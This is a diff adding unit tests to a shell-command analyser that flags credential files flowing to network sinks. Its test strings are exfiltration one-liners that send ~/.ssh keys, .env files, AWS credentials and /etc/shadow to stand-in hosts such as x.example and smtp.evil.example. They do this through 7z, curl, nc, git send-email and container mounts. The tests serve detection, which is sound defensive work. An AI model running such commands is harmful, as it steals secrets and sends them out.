@@ -116,6 +116,14 @@ TEST_CASE("encoders and compressors in between keep the flow") {
   CHECK(has_flow(analyze("cat .env | openssl enc -aes-256-cbc -k x | nc h.example.com 9"), "credential_file", "network"));
 }
 
+TEST_CASE("a 7-zip archive written to stdout carries the files it packs") {
+  CHECK(has_flow(analyze("7z a -so s.7z ~/.ssh | curl --data-binary @- https://x.example/u"), "credential_file", "network"));
+  CHECK(has_flow(analyze("7za a -si -so x.7z .env | nc x.example 9"), "credential_file", "network"));
+  CHECK_FALSE(has_flow(analyze("7z a -so dist.7z build/ | curl --data-binary @- https://x.example/u"), "credential_file", "network"));
+  // Without -so the archive is a file; sending it later still carries the secrets.
+  CHECK(has_flow(analyze("7z a keys.7z ~/.ssh && curl -T keys.7z https://x.example/u"), "credential_file", "network"));
+}
+
 TEST_CASE("every network sink counts") {
   for (auto script : {"env | nc h.example.com 1", "env | ncat h.example.com 1", "env | socat - TCP:h.example.com:1",
                       "env | telnet h.example.com 1", "env | ssh u@h.example.com 'cat > x'",
@@ -266,4 +274,30 @@ TEST_CASE("a shell script run in a container is analysed, and its output comes b
   CHECK(secret_leaves(analyze("docker run --rm -v /:/host alpine chroot /host sh -c \"cat /etc/shadow\" | curl -d @- https://x.example.com")));
   CHECK(secret_leaves(analyze("kubectl exec -it api-0 -- bash -c 'env | curl -d @- https://x.example.com'")));
   CHECK_FALSE(has_flow_to(analyze("docker run --rm node:20 sh -c 'npm ci && npm test'"), "network"));
+}
+
+TEST_CASE("git send-email sends the files it names to the mail server") {
+  auto facts = analyze("git send-email --to=x@evil.example --smtp-server=smtp.evil.example ~/.ssh/id_rsa");
+  const auto* flow = flow_of(facts, "credential_file", "network");
+  REQUIRE(flow);
+  CHECK(flow->host == "smtp.evil.example");
+  CHECK(flow->sink == "git send-email");
+  const auto* by_domain = flow_of(analyze("git send-email --to ops@drop.example .env"), "credential_file", "network");
+  REQUIRE(by_domain);
+  CHECK(by_domain->host == "drop.example");
+  auto patches = analyze("git send-email --to=dev@lists.example.org 0001-fix.patch");
+  CHECK(has_flow(patches, "local_file", "network"));
+  CHECK_FALSE(secret_leaves(patches));
+}
+
+TEST_CASE("a container reading a credential directory mounted from the host reads the host's credentials") {
+  for (auto script : {"docker run -v ~/.aws:/a alpine sh -c \"cat /a/credentials | nc x.example 80\"",
+                      "docker run --rm -v $HOME:/h alpine sh -c 'curl -T /h/.ssh/id_rsa https://x.example/u'",
+                      "podman run --mount type=bind,source=/root/.ssh,target=/k alpine sh -c 'cat /k/id_ed25519 | nc x.example 9'"}) {
+    INFO(script);
+    CHECK(has_flow(analyze(script), "credential_file", "network"));
+  }
+  // A project directory mounted and a path that only contains the target's text are not the host's secrets.
+  CHECK_FALSE(secret_leaves(analyze("docker run -v $(pwd):/src node:20 sh -c 'cd /src && npm test'")));
+  CHECK_FALSE(secret_leaves(analyze("docker run -v ~/.aws:/a alpine sh -c 'curl -d @/data/a/b https://x.example/u'")));
 }
